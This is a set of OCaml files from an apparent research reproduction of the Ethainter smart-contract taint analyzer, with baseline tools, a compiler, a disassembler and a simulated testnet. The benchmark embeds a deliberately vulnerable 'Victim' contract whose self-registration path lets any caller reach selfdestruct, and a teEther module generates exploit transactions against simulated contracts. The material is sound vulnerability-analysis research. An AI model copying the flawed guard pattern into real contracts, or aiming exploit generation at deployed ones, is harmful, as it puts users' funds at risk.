(* Benchmark harness: one Bechamel benchmark per reproduced table /
   figure of the paper's evaluation (§6), measuring the cost of the
   computation that regenerates it, followed by a full print-out of
   every table (the actual reproduction output).

   Run with: dune exec bench/main.exe
   Fast mode (skip timing, print tables only):
     dune exec bench/main.exe -- --tables-only *)

open Bechamel
open Toolkit
module E = Ethainter_experiments.Experiments

(* Benchmarks run the analysis kernels at a reduced corpus size so a
   full Bechamel run stays in seconds; the printed tables below use the
   full default sizes. *)
let bench_size = 60

(* per-table/figure benchmark kernels *)
let t1 () = ignore (E.t1_flagged ~size:bench_size ())
let f6 () = ignore (E.f6_precision ~size:(4 * bench_size) ~sample:10 ())
let s1 () = ignore (E.s1_securify ~size:bench_size ~sample:10 ())
let f7 () = ignore (E.f7_securify2 ~size:bench_size ())
let te () = ignore (E.te_teether ~size:bench_size ())
let e1 () = ignore (E.e1_kill ~size:(bench_size / 2) ())
let rq2 () = ignore (E.rq2_efficiency ~size:bench_size ())
let f8a () = ignore (E.f8a ~size:bench_size ())
let f8b () = ignore (E.f8b ~size:bench_size ())
let f8c () = ignore (E.f8c ~size:bench_size ())

(* component micro-benchmarks: the pipeline stages behind RQ2 *)
let victim_runtime =
  Ethainter_minisol.Codegen.compile_source_runtime
    {|contract Victim {
        mapping(address => bool) admins;
        mapping(address => bool) users;
        address owner;
        modifier onlyAdmins { require(admins[msg.sender]); _; }
        modifier onlyUsers { require(users[msg.sender]); _; }
        constructor() { owner = msg.sender; }
        function registerSelf() public { users[msg.sender] = true; }
        function referUser(address u) public onlyUsers { users[u] = true; }
        function referAdmin(address a) public onlyUsers { admins[a] = true; }
        function changeOwner(address o) public onlyAdmins { owner = o; }
        function kill() public onlyAdmins { selfdestruct(owner); }
      }|}

let decompile () = ignore (Ethainter_tac.Decomp.decompile victim_runtime)

let analyze_one () =
  ignore (Ethainter_core.Pipeline.analyze_runtime victim_runtime)

let keccak () = ignore (Ethainter_crypto.Keccak.hash (String.make 1000 'x'))

let tests =
  [ Test.make ~name:"T1-flagged-table" (Staged.stage t1);
    Test.make ~name:"F6-precision" (Staged.stage f6);
    Test.make ~name:"S1-securify" (Staged.stage s1);
    Test.make ~name:"F7-securify2" (Staged.stage f7);
    Test.make ~name:"TE-teether" (Staged.stage te);
    Test.make ~name:"E1-kill-campaign" (Staged.stage e1);
    Test.make ~name:"RQ2-throughput" (Staged.stage rq2);
    Test.make ~name:"F8a-no-storage" (Staged.stage f8a);
    Test.make ~name:"F8b-no-guards" (Staged.stage f8b);
    Test.make ~name:"F8c-conservative" (Staged.stage f8c);
    Test.make ~name:"stage-decompile" (Staged.stage decompile);
    Test.make ~name:"stage-analyze-contract" (Staged.stage analyze_one);
    Test.make ~name:"stage-keccak-1k" (Staged.stage keccak) ]

let benchmark () =
  let instances = Instance.[ monotonic_clock ] in
  let cfg = Benchmark.cfg ~limit:50 ~quota:(Time.second 0.5) () in
  let test = Test.make_grouped ~name:"ethainter" tests in
  let results = Benchmark.all cfg instances test in
  let ols =
    Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |]
  in
  let analyzed =
    List.map (fun instance -> Analyze.all ols instance results) instances
  in
  let merged = Analyze.merge ols instances analyzed in
  Hashtbl.iter
    (fun measure tbl ->
      Printf.printf "\n== %s (ns/run) ==\n" measure;
      let rows = Hashtbl.fold (fun name v acc -> (name, v) :: acc) tbl [] in
      List.iter
        (fun (name, result) ->
          match Analyze.OLS.estimates result with
          | Some [ est ] -> Printf.printf "%-45s %14.0f\n" name est
          | _ -> Printf.printf "%-45s %14s\n" name "n/a")
        (List.sort compare rows))
    merged

let () =
  let tables_only = Array.exists (fun a -> a = "--tables-only") Sys.argv in
  if not tables_only then begin
    print_endline "Bechamel benchmarks (one per reproduced table/figure):";
    benchmark ()
  end;
  print_endline "";
  print_endline "Reproduced tables and figures (full scale):";
  E.run_all ()
