(* EVM disassembler: hex bytecode (file or arg) -> assembly listing. *)

let () =
  match Sys.argv with
  | [| _; arg |] ->
      let content =
        if Sys.file_exists arg then (
          let ic = open_in_bin arg in
          let n = in_channel_length ic in
          let s = really_input_string ic n in
          close_in ic;
          s)
        else arg
      in
      let code = Ethainter_word.Hex.decode (String.trim content) in
      print_string (Ethainter_evm.Bytecode.to_asm_string code)
  | _ ->
      prerr_endline "usage: evm_disasm <hexfile-or-hexstring>";
      exit 1
