(* Reproduce the paper's tables and figures. See DESIGN.md for the
   experiment index.

   usage: experiments [all|e1|t1|f6|s1|f7|te|rq2|f8a|f8b|f8c] [scale] *)

module E = Ethainter_experiments.Experiments

let () =
  let which = if Array.length Sys.argv > 1 then Sys.argv.(1) else "all" in
  let scale =
    if Array.length Sys.argv > 2 then float_of_string Sys.argv.(2) else 1.0
  in
  let sz f = max 40 (int_of_float (float_of_int f *. scale)) in
  match which with
  | "all" -> E.run_all ~scale ()
  | "e1" -> E.print_e1 (E.e1_kill ~size:(sz 160) ())
  | "t1" ->
      let rows, total = E.t1_flagged ~size:(sz 600) () in
      E.print_t1 rows total
  | "f6" -> E.print_f6 (E.f6_precision ~size:(sz 3600) ())
  | "s1" -> E.print_s1 (E.s1_securify ~size:(sz 300) ())
  | "f7" -> E.print_f7 (E.f7_securify2 ~size:(sz 400) ())
  | "te" -> E.print_te (E.te_teether ~size:(sz 300) ())
  | "rq2" -> E.print_rq2 (E.rq2_efficiency ~size:(sz 400) ())
  | "f8a" -> E.print_f8a (E.f8a ~size:(sz 600) ())
  | "f8b" -> E.print_f8b (E.f8b ~size:(sz 600) ())
  | "f8c" -> E.print_f8c (E.f8c ~size:(sz 600) ())
  | other ->
      Printf.eprintf
        "unknown experiment %S (expected all|e1|t1|f6|s1|f7|te|rq2|f8a|f8b|f8c)\n"
        other;
      exit 1
