(* The MiniSol compiler driver: compile a contract to deployment or
   runtime bytecode (hex on stdout), or dump selectors. *)

open Cmdliner

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let run runtime_only selectors file =
  let src = read_file file in
  let c = Ethainter_minisol.Parser.parse src in
  Ethainter_minisol.Typecheck.check c;
  if selectors then
    List.iter
      (fun (f : Ethainter_minisol.Ast.func) ->
        if f.Ethainter_minisol.Ast.vis = Ethainter_minisol.Ast.Public then
          let sg = Ethainter_minisol.Ast.signature f in
          Printf.printf "%s  %s\n"
            (Ethainter_word.Hex.encode (Ethainter_crypto.Keccak.selector sg))
            sg)
      c.Ethainter_minisol.Ast.funcs
  else begin
    let code =
      if runtime_only then Ethainter_minisol.Codegen.compile_runtime c
      else Ethainter_minisol.Codegen.compile_deploy c
    in
    print_endline (Ethainter_word.Hex.encode code)
  end

let () =
  let file =
    Arg.(required & pos 0 (some file) None & info [] ~docv:"FILE")
  in
  let runtime_only =
    Arg.(value & flag
         & info [ "runtime" ]
             ~doc:"Emit runtime bytecode instead of deployment bytecode.")
  in
  let selectors =
    Arg.(value & flag
         & info [ "selectors" ] ~doc:"Print the public ABI selectors.")
  in
  let cmd =
    Cmd.v
      (Cmd.info "minisolc" ~version:"1.0.0"
         ~doc:"MiniSol to EVM bytecode compiler")
      Term.(const run $ runtime_only $ selectors $ file)
  in
  exit (Cmd.eval cmd)
