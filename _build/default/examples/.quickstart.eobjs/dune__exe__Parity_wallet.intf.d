examples/parity_wallet.mli:
