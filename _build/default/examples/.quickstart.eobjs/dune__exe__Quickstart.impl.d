examples/quickstart.ml: Ethainter_core Ethainter_minisol List Printf String
