examples/quickstart.mli:
