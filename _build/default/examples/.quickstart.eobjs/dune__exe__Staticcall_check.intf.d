examples/staticcall_check.mli:
