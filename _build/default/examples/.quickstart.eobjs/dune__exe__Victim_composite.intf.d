examples/victim_composite.mli:
