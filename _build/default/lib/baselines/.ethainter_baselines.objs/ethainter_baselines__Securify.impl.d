lib/baselines/securify.ml: Decomp Ethainter_core Ethainter_evm Ethainter_tac Hashtbl List Tac VarSet
