lib/baselines/securify2.ml: Ethainter_minisol List
