lib/baselines/symex.ml: Array Char Ethainter_crypto Ethainter_evm Ethainter_word Hashtbl List String
