lib/baselines/teether.ml: Bytes Ethainter_evm Ethainter_word List Symex
