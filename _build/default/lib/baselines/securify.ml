(** A reimplementation of Securify's decision procedure at the level of
    detail the paper compares against (§6.2).

    Securify [Tsankov et al., CCS'18] checks compliance/violation
    patterns over bytecode-level data-flow facts. The paper contrasts
    two of its violation patterns with Ethainter:

    - {b unrestricted write}: a storage write not guarded by the
      caller. Crucially, Securify "models precisely the case of
      owner-sender guards, but without propagation of taintedness into
      guards" and does {e not} model high-level data structures — so a
      write to [balances[msg.sender]] (compiled to hash-derived
      pointer arithmetic) is flagged as unrestricted (§6.2's example).
    - {b missing input validation}: transaction input that flows into
      storage/memory/hash/call operations without first flowing into a
      [JUMPI] condition.

    Both reproduce the documented behaviour faithfully enough to show
    the comparison's shape: very high flag rates and ~0 end-to-end
    precision, against Ethainter's guard- and data-structure-aware
    analysis. *)

module Op = Ethainter_evm.Opcode
open Ethainter_tac
open Tac

type finding = {
  pattern : string; (* "unrestricted-write" | "missing-input-validation" *)
  pc : int;
}

type result = {
  findings : finding list;
  flagged : bool;
}

(* Does a dominating guard compare CALLER for equality? Securify
   "models precisely the case of owner-sender guards" — a direct
   msg.sender == X comparison — but a mapping lookup keyed by sender
   ([balances[msg.sender] >= v]) is *not* recognized (no data-structure
   modeling), and guard taintedness is never considered. *)
let caller_guarded (facts : Ethainter_core.Facts.t) (s : stmt) : bool =
  let p = facts.Ethainter_core.Facts.program in
  List.exists
    (fun (g : Ethainter_core.Facts.guard) ->
      let slice = Ethainter_core.Facts.slice_of facts g.g_cond in
      VarSet.exists
        (fun v ->
          match def p v with
          | Some { s_op = TOp Op.EQ; s_args; _ } ->
              List.exists
                (fun a ->
                  match def p a with
                  | Some { s_op = TOp Op.CALLER; _ } -> true
                  | _ -> false)
                s_args
          | _ -> false)
        slice)
    (Ethainter_core.Facts.guards_of_stmt facts s)

let analyze (runtime : string) : result =
  let p = Decomp.decompile runtime in
  let facts = Ethainter_core.Facts.compute p in
  let findings = ref [] in
  (* ---- unrestricted write ---- *)
  List.iter
    (fun s ->
      match s.s_op with
      | TOp Op.SSTORE -> (
          match s.s_args with
          | [ addr; _value ] ->
              let unrestricted =
                match const_of p addr with
                | Some _ ->
                    (* constant slot: flagged unless a direct
                       msg.sender comparison dominates *)
                    not (caller_guarded facts s)
                | None ->
                    (* hash-derived address: "the maps are not modeled
                       as high-level data structures ... the store gets
                       interpreted as an unrestricted write" *)
                    true
              in
              if unrestricted then
                findings :=
                  { pattern = "unrestricted-write"; pc = s.s_pc } :: !findings
          | _ -> ())
      | _ -> ())
    (stmts p);
  (* ---- missing input validation ---- *)
  (* taint from CALLDATALOAD with no guard modeling at all *)
  let tainted : (var, unit) Hashtbl.t = Hashtbl.create 64 in
  let in_jumpi : (var, unit) Hashtbl.t = Hashtbl.create 64 in
  let changed = ref true in
  let all = stmts p in
  while !changed do
    changed := false;
    List.iter
      (fun s ->
        let mark v =
          if not (Hashtbl.mem tainted v) then begin
            Hashtbl.replace tainted v ();
            changed := true
          end
        in
        match (s.s_op, s.s_res) with
        | TOp Op.CALLDATALOAD, Some r -> mark r
        | TPhi, Some r ->
            if List.exists (Hashtbl.mem tainted) s.s_args then mark r
        | TOp op, Some r
          when (match op with
               | Op.ADD | Op.SUB | Op.MUL | Op.DIV | Op.MOD | Op.EXP
               | Op.AND | Op.OR | Op.XOR | Op.NOT | Op.SHL | Op.SHR
               | Op.EQ | Op.LT | Op.GT | Op.ISZERO | Op.BYTE
               | Op.MLOAD ->
                   true
               | _ -> false) ->
            if List.exists (Hashtbl.mem tainted) s.s_args then mark r
        | _ -> ())
      all
  done;
  List.iter
    (fun s ->
      match s.s_op with
      | TOp Op.JUMPI -> (
          match s.s_args with
          | [ _t; c ] ->
              VarSet.iter
                (fun v -> Hashtbl.replace in_jumpi v ())
                (Ethainter_core.Facts.compute_slice p c)
          | _ -> ())
      | _ -> ())
    all;
  List.iter
    (fun s ->
      match s.s_op with
      | TOp (Op.SSTORE | Op.SLOAD | Op.MSTORE | Op.SHA3 | Op.CALL) ->
          let uses_unvalidated =
            List.exists
              (fun a -> Hashtbl.mem tainted a && not (Hashtbl.mem in_jumpi a))
              s.s_args
          in
          if uses_unvalidated then
            findings :=
              { pattern = "missing-input-validation"; pc = s.s_pc }
              :: !findings
      | _ -> ())
    all;
  { findings = List.rev !findings; flagged = !findings <> [] }

let count_pattern (r : result) (pat : string) : int =
  List.length (List.filter (fun f -> f.pattern = pat) r.findings)
