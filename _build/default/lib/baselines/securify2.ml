(** A reimplementation of Securify2's decision procedure as compared in
    Fig. 7 (§6.2).

    Securify2 diverged from the original: it is a {e source-code-only}
    analyzer (Solidity 0.5.8+), with context-sensitive patterns but no
    composite-taint modeling. We mirror the properties the paper's
    comparison rests on:

    - operates on MiniSol source (our stand-in for Solidity source);
      contracts without source, with an incompatible compiler version,
      or using inline assembly are out of scope — this is why it has
      "very low completeness for tainted delegatecall: the buggy
      pattern typically appears in inline EVM assembly, which a
      source-only tool cannot handle";
    - {b UnrestrictedSelfdestruct}: a [selfdestruct] in a function with
      no sender-scrutinizing [require]/modifier — precise on
      primitives, blind to guard tainting (no composite escalation);
    - {b UnrestrictedDelegateCall}: same for [delegatecall];
    - {b UnrestrictedWrite}: a state-variable write in a function with
      no sender guard; mappings are flagged liberally (no reasoning
      about which slot a guard trusts), yielding its very high report
      count (3,502 over 6,094 contracts) and ~0 precision;
    - a timeout budget (the paper observes 441 timeouts at 120 s). *)

open Ethainter_minisol.Ast

type finding = {
  pattern : string;
  fname : string;
}

type outcome =
  | Findings of finding list
  | Timeout
  | NotApplicable of string (* no source / version / assembly-only *)

(** Source metadata the tool needs to decide applicability (the corpus
    records these; real Securify2 reads them from pragma/verified
    source). *)
type source_info = {
  src : string option;            (** verified source, if any *)
  solidity_version : int * int;   (** (major-minor, patch) e.g. (5, 8) *)
  uses_assembly : bool;           (** vulnerable pattern in inline asm *)
}

(* A statement-level scan: does the block contain a sender-scrutinizing
   require? (Securify2 does understand msg.sender comparisons and
   mapping lookups keyed by msg.sender — context-sensitively — but
   never reasons about whether the trusted storage can be tainted.) *)
let rec expr_mentions_sender (e : expr) : bool =
  match e with
  | Sender -> true
  | Bin (_, a, b) -> expr_mentions_sender a || expr_mentions_sender b
  | Not a | KeccakOf a -> expr_mentions_sender a
  | Index (a, b) -> expr_mentions_sender a || expr_mentions_sender b
  | CallFn (_, args) -> List.exists expr_mentions_sender args
  | _ -> false

let rec block_has_sender_require (b : block) : bool =
  List.exists
    (function
      | SRequire c -> expr_mentions_sender c
      | SIf (c, thn, els) ->
          (* a sender-comparison if around the whole body also guards *)
          (expr_mentions_sender c && thn <> [])
          || block_has_sender_require thn && block_has_sender_require els
      | _ -> false)
    b

let func_sender_guarded (c : contract) (f : func) : bool =
  block_has_sender_require f.body
  || List.exists
       (fun m ->
         match find_modifier c m with
         | Some md -> block_has_sender_require md.mbody
         | None -> false)
       f.mods
  ||
  (* body wrapped in a single if (msg.sender == ...) *)
  (match f.body with
  | [ SIf (c, _, []) ] -> expr_mentions_sender c
  | _ -> false)

(* crude work estimate standing in for the solver blow-up that causes
   Securify2's timeouts: deeply nested control flow and many state
   variables inflate its constraint systems *)
let rec stmt_weight = function
  | SIf (_, t, e) ->
      3 + List.fold_left (fun a s -> a + stmt_weight s) 0 (t @ e)
  | SWhile (_, b) ->
      25 + (5 * List.fold_left (fun a s -> a + stmt_weight s) 0 b)
  | _ -> 1

let contract_weight (c : contract) =
  List.length c.state_vars * 4
  + List.fold_left
      (fun acc f ->
        acc + 5
        + List.fold_left (fun a s -> a + stmt_weight s) 0 f.body)
      0 c.funcs

let timeout_weight = 900

let analyze ?(timeout_budget = timeout_weight) (info : source_info) : outcome
    =
  match info.src with
  | None -> NotApplicable "no verified source"
  | Some src ->
      let major, _ = info.solidity_version in
      if major < 5 then NotApplicable "requires Solidity 0.5.8+"
      else begin
        match Ethainter_minisol.Parser.parse src with
        | exception _ -> NotApplicable "failed to produce analysis facts"
        | c ->
            if contract_weight c > timeout_budget then Timeout
            else begin
              let findings = ref [] in
              let add pattern fname =
                findings := { pattern; fname } :: !findings
              in
              List.iter
                (fun f ->
                  if f.vis = Public then begin
                    let guarded = func_sender_guarded c f in
                    let rec scan (b : block) =
                      List.iter
                        (fun s ->
                          match s with
                          | SSelfdestruct _ ->
                              if not guarded then
                                add "UnrestrictedSelfdestruct" f.fname
                          | SDelegatecall _ ->
                              if info.uses_assembly then
                                (* source-only tool: the statement is
                                   inside inline assembly it cannot
                                   model *)
                                ()
                              else if not guarded then
                                add "UnrestrictedDelegateCall" f.fname
                          | SAssign (lv, _) ->
                              (* state write? (locals shadow) *)
                              let rec root = function
                                | LVar x -> x
                                | LIndex (b, _) -> root b
                              in
                              let x = root lv in
                              let is_state =
                                List.mem_assoc x c.state_vars
                                && not (List.mem_assoc x f.params)
                              in
                              if is_state && not guarded then
                                add "UnrestrictedWrite" f.fname
                          | SIf (_, t, e) ->
                              scan t;
                              scan e
                          | SWhile (_, b) -> scan b
                          | _ -> ())
                        b
                    in
                    scan f.body
                  end)
                c.funcs;
              Findings (List.rev !findings)
            end
      end

let flags_pattern (o : outcome) (pat : string) : bool =
  match o with
  | Findings fs -> List.exists (fun f -> f.pattern = pat) fs
  | _ -> false
