(** The teEther baseline (§6.2): symbolic execution + automatic exploit
    generation for selfdestruct vulnerabilities.

    teEther [Krupp & Rossow, USENIX Sec'18] searches for "critical
    paths" to value-extracting instructions and synthesizes concrete
    exploit transactions. We reproduce the decision surface the paper
    compares against:

    - a contract is {e flagged} only when a complete concrete exploit
      is synthesized (path found {b and} constraints solved) — this is
      why its reports are "expected to be (mostly) true positives";
    - analysis is single-transaction from fresh-deploy storage (§6.4:
      symbolic executors "tend not to consider value flow across
      multiple transactions"), so composite vulnerabilities are missed;
    - path and step budgets produce timeouts/failures on larger
      contracts (low completeness against Ethainter's 6x+ more flags). *)

module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode

type exploit = {
  e_target_pc : int;
  e_caller : U.t;
  e_calldata : string;
  e_beneficiary_attacker : bool;
      (** does the selfdestruct send funds to the attacker? (the
          tainted-selfdestruct payoff) *)
}

type outcome =
  | Exploits of exploit list (* non-empty: flagged *)
  | NoExploit                (* explored fully, nothing synthesized *)
  | ResourceExhausted        (* budget blown: timeout/exception bucket *)

let attacker_addr = U.of_int 0xa77ac8e5

(* Build the concrete calldata string from a model: the highest bound
   offset determines the length. *)
let calldata_of_model (m : Symex.model) : string =
  let maxoff =
    List.fold_left (fun a (o, _) -> max a (o + 32)) 4 m.Symex.inputs
  in
  let b = Bytes.make maxoff '\000' in
  List.iter
    (fun (off, v) ->
      let s = U.to_bytes v in
      let n = min 32 (maxoff - off) in
      Bytes.blit_string s 0 b off n)
    m.Symex.inputs;
  Bytes.to_string b

(** Hunt for selfdestruct exploits in runtime bytecode. *)
let analyze ?(max_steps = Symex.default_max_steps)
    ?(max_paths = Symex.default_max_paths) (runtime : string) : outcome =
  let paths, exhausted =
    Symex.explore ~max_steps ~max_paths ~target_op:Op.SELFDESTRUCT runtime
  in
  let initial_storage (_ : U.t) = U.zero in
  let exploits =
    List.filter_map
      (fun (p : Symex.path) ->
        match
          Symex.find_model ~attacker:attacker_addr p.Symex.constraints
            ~initial_storage
        with
        | None -> None
        | Some m ->
            let beneficiary_attacker =
              match p.Symex.beneficiary with
              | Some b -> (
                  match Symex.eval m b with
                  | Some v -> U.equal v m.Symex.caller
                  | None -> false)
              | None -> false
            in
            Some
              { e_target_pc = p.Symex.target_pc; e_caller = m.Symex.caller;
                e_calldata = calldata_of_model m;
                e_beneficiary_attacker = beneficiary_attacker })
      paths
  in
  if exploits <> [] then Exploits exploits
  else if exhausted then ResourceExhausted
  else NoExploit

let flagged = function Exploits _ -> true | _ -> false
