lib/chain/testnet.ml: Ethainter_crypto Ethainter_evm Ethainter_word List String
