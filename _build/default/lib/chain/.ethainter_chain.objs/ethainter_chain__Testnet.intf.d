lib/chain/testnet.mli: Ethainter_evm Ethainter_word
