(** An in-memory Ethereum test network.

    Plays the role of the paper's evaluation substrates: the mainnet
    snapshot Ethainter analyzes, and the "private fork of the Ropsten
    testnet" on which Ethainter-Kill destroys contracts (§6.1).

    The network executes transactions through {!Ethainter_evm.Interp},
    records per-transaction receipts with instruction traces, and can
    be forked cheaply (copy-on-snapshot of world state). *)

module U = Ethainter_word.Uint256
module State = Ethainter_evm.State
module Interp = Ethainter_evm.Interp

type receipt = {
  tx_hash : U.t;
  from : U.t;
  to_ : U.t option; (** None for contract creation *)
  created : U.t option;
  outcome : Interp.outcome;
  trace : Interp.trace_entry list;
  logs : Interp.log_entry list; (** events emitted by this transaction *)
  gas_used : int;
  block : int;
}

type t = {
  state : State.t;
  mutable block_number : int;
  mutable receipts : receipt list;
  name : string;
}

let create ?(name = "ropsten-fork") () =
  { state = State.create (); block_number = 0; receipts = []; name }

(** Fork the network: independent deep copy of world state, shared
    history up to the fork point. *)
let fork ?(name = "fork") (t : t) =
  { state = State.copy t.state; block_number = t.block_number;
    receipts = t.receipts; name }

let state t = t.state
let block_number t = t.block_number

(** Create an externally-owned account with the given balance. *)
let fund_account (t : t) (addr : U.t) (balance : U.t) =
  State.set_balance t.state addr balance

(** A deterministic "key pair": account addresses derived from a seed
    string, standing in for real ECDSA keys. *)
let account_of_seed (seed : string) : U.t =
  U.logand
    (Ethainter_crypto.Keccak.hash_word ("account:" ^ seed))
    (U.sub (U.shift_left U.one 160) U.one)

let tx_counter = ref 0

let next_tx_hash (from : U.t) =
  incr tx_counter;
  Ethainter_crypto.Keccak.hash_word
    (U.to_bytes from ^ string_of_int !tx_counter)

(** Deploy a contract from raw *deployment* bytecode (constructor code
    that returns the runtime). Returns the receipt; [created] holds the
    new contract's address on success. *)
let deploy (t : t) ~(from : U.t) ?(value = U.zero) (initcode : string) :
    receipt =
  t.block_number <- t.block_number + 1;
  let nonce = State.nonce t.state from in
  let addr = State.contract_address ~creator:from ~nonce in
  State.bump_nonce t.state from;
  let snap = State.snapshot t.state in
  let _ = State.transfer t.state ~src:from ~dst:addr ~value in
  State.set_code t.state addr initcode;
  let cr =
    Interp.call_full t.state ~caller:from ~target:addr ~value:U.zero
      ~calldata:""
  in
  let outcome, created =
    match cr.Interp.outcome with
    | Interp.Returned runtime ->
        State.set_code t.state addr runtime;
        (Interp.Returned runtime, Some addr)
    | (Interp.Reverted _ | Interp.Failed _) as o ->
        State.restore t.state snap;
        (o, None)
  in
  let r =
    { tx_hash = next_tx_hash from; from; to_ = None; created; outcome;
      trace = cr.Interp.tx_trace; logs = cr.Interp.tx_logs;
      gas_used = cr.Interp.gas_used; block = t.block_number }
  in
  t.receipts <- r :: t.receipts;
  r

(** Deploy runtime bytecode directly (wraps it in a deployer). *)
let deploy_runtime (t : t) ~(from : U.t) ?(value = U.zero) (runtime : string)
    : receipt =
  deploy t ~from ~value (Ethainter_evm.Bytecode.deployer runtime)

(** Send a transaction to a contract. *)
let transact (t : t) ~(from : U.t) ~(to_ : U.t) ?(value = U.zero)
    ?(gas = 10_000_000) (calldata : string) : receipt =
  t.block_number <- t.block_number + 1;
  State.bump_nonce t.state from;
  let cr =
    Interp.call_full ~gas
      ~block_number:(U.of_int t.block_number)
      t.state ~caller:from ~target:to_ ~value ~calldata
  in
  let r =
    { tx_hash = next_tx_hash from; from; to_ = Some to_; created = None;
      outcome = cr.Interp.outcome; trace = cr.Interp.tx_trace;
      logs = cr.Interp.tx_logs; gas_used = cr.Interp.gas_used;
      block = t.block_number }
  in
  t.receipts <- r :: t.receipts;
  r

(** Call a contract function by Solidity-style signature with 32-byte
    word arguments, e.g. [call_fn net ~from ~to_ "kill()" []]. *)
let call_fn (t : t) ~(from : U.t) ~(to_ : U.t) ?(value = U.zero)
    (signature : string) (args : U.t list) : receipt =
  let selector = Ethainter_crypto.Keccak.selector signature in
  let calldata =
    selector ^ String.concat "" (List.map U.to_bytes args)
  in
  transact t ~from ~to_ ~value calldata

let is_alive (t : t) (addr : U.t) : bool =
  (not (State.is_destroyed t.state addr))
  && String.length (State.code t.state addr) > 0

let succeeded (r : receipt) =
  match r.outcome with Interp.Returned _ -> true | _ -> false

let return_word (r : receipt) : U.t option =
  match r.outcome with
  | Interp.Returned s when String.length s >= 32 ->
      Some (U.of_bytes (String.sub s 0 32))
  | _ -> None
