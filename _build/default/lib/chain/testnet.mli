(** An in-memory Ethereum test network.

    Plays the role of the paper's evaluation substrates: the network
    the analyzed contracts live on, and the "private fork of the
    Ropsten testnet" on which Ethainter-Kill destroys contracts (§6.1).
    Transactions execute through the real EVM interpreter; receipts
    carry full instruction traces and event logs. *)

module U = Ethainter_word.Uint256
module State = Ethainter_evm.State
module Interp = Ethainter_evm.Interp

type receipt = {
  tx_hash : U.t;
  from : U.t;
  to_ : U.t option;        (** [None] for contract creation *)
  created : U.t option;    (** new contract address, on successful create *)
  outcome : Interp.outcome;
  trace : Interp.trace_entry list; (** executed instructions *)
  logs : Interp.log_entry list;    (** events (empty if rolled back) *)
  gas_used : int;
  block : int;
}

type t

val create : ?name:string -> unit -> t

val fork : ?name:string -> t -> t
(** Independent deep copy of world state; shared history up to the
    fork point. *)

val state : t -> State.t
val block_number : t -> int

val fund_account : t -> U.t -> U.t -> unit
(** Credit an externally-owned account. *)

val account_of_seed : string -> U.t
(** Deterministic 160-bit account address derived from a seed string
    (stands in for a real key pair). *)

val deploy : t -> from:U.t -> ?value:U.t -> string -> receipt
(** Execute deployment bytecode (constructor returning the runtime). *)

val deploy_runtime : t -> from:U.t -> ?value:U.t -> string -> receipt
(** Wrap runtime bytecode in a standard deployer and deploy it. *)

val transact :
  t -> from:U.t -> to_:U.t -> ?value:U.t -> ?gas:int -> string -> receipt
(** Send a transaction with raw calldata. *)

val call_fn :
  t -> from:U.t -> to_:U.t -> ?value:U.t -> string -> U.t list -> receipt
(** Call by Solidity-style signature with word-sized arguments, e.g.
    [call_fn net ~from ~to_ "transfer(address,uint256)" [dst; amount]]. *)

val is_alive : t -> U.t -> bool
(** Deployed and not self-destructed. *)

val succeeded : receipt -> bool
val return_word : receipt -> U.t option
(** First 32 bytes of return data, if any. *)
