lib/core/analysis.ml: Config Dominators Ethainter_evm Ethainter_tac Ethainter_word Facts Hashtbl List Tac Vulns
