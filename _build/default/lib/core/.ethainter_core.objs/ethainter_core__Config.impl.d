lib/core/config.ml:
