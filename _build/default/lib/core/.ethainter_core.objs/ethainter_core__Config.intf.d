lib/core/config.mli:
