lib/core/datalog_frontend.ml: Analysis Array Ethainter_datalog Ethainter_evm Ethainter_tac Ethainter_word Facts Hashtbl List Tac
