lib/core/explain.ml: Analysis Config Ethainter_evm Ethainter_tac Ethainter_word Facts Format Hashtbl List Printf Tac VarSet Vulns
