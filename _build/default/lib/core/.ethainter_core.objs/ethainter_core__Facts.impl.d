lib/core/facts.ml: Dominators Ethainter_evm Ethainter_tac Ethainter_word Hashtbl List Tac VarSet
