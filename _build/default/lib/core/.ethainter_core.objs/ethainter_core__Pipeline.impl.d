lib/core/pipeline.ml: Analysis Config Ethainter_tac Ethainter_word Facts List Unix Vulns
