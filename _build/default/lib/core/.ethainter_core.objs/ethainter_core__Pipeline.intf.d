lib/core/pipeline.mli: Config Vulns
