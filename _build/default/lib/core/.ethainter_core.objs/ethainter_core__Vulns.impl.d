lib/core/vulns.ml: Format
