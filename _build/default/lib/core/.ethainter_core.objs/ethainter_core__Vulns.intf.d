lib/core/vulns.mli: Format
