(** Analysis configuration: the design decisions of §4.4/§6.4, exposed
    as switches so the Fig. 8 ablation experiments can turn each off.

    The default configuration is the paper's tuned analysis. *)

type t = {
  model_guards : bool;
      (** Model sanitization by sender guards (§4, GUARD rules). When
          off, every statement is considered attacker-reachable —
          Fig. 8b's "No Guard Modeling" ablation (precision drops). *)
  storage_taint : bool;
      (** Let taint propagate through persistent storage, across
          transactions (rules StorageWrite/StorageLoad). When off,
          composite multi-transaction escalations are invisible —
          Fig. 8a's "No Storage Modeling" ablation (completeness
          drops). *)
  conservative_storage : bool;
      (** Securify-style conservative storage: a store to a statically
          unknown location may reach *any* storage location, and a load
          from an unknown location may read any tainted slot — Fig. 8c's
          "Conservative Storage Modeling" ablation (precision drops).
          The default instead models unknown locations precisely-but-
          incompletely (only data-structure accesses with a known base
          slot alias each other). *)
  max_fixpoint_rounds : int;
      (** Safety bound on the mutual-recursion fixpoint. *)
}

let default =
  { model_guards = true; storage_taint = true; conservative_storage = false;
    max_fixpoint_rounds = 100 }

(** Fig. 8a: "No Storage Modeling" — reduced completeness. *)
let no_storage_model = { default with storage_taint = false }

(** Fig. 8b: "No Guard Modeling" — reduced precision. *)
let no_guard_model = { default with model_guards = false }

(** Fig. 8c: "Conservative Storage Modeling" — reduced precision. *)
let conservative = { default with conservative_storage = true }
