(** Analysis configuration: the design decisions of §4.4, exposed as
    switches so the Fig. 8 ablation experiments can turn each off. *)

type t = {
  model_guards : bool;
      (** Model sanitization by sender guards. Off = Fig. 8b's "No
          Guard Modeling" (every statement attacker-reachable;
          precision drops). *)
  storage_taint : bool;
      (** Let taint propagate through persistent storage across
          transactions — including guard defeat via attacker-writable
          slots. Off = Fig. 8a's "No Storage Modeling" (composite
          escalations invisible; completeness drops). *)
  conservative_storage : bool;
      (** Securify-style conservative treatment of statically unknown
          storage locations (may alias anything). On = Fig. 8c's
          "Conservative Storage Modeling" (precision drops). *)
  max_fixpoint_rounds : int;
      (** Defensive bound on the mutual-recursion fixpoint. *)
}

val default : t
(** The paper's tuned analysis. *)

val no_storage_model : t
(** Fig. 8a ablation. *)

val no_guard_model : t
(** Fig. 8b ablation. *)

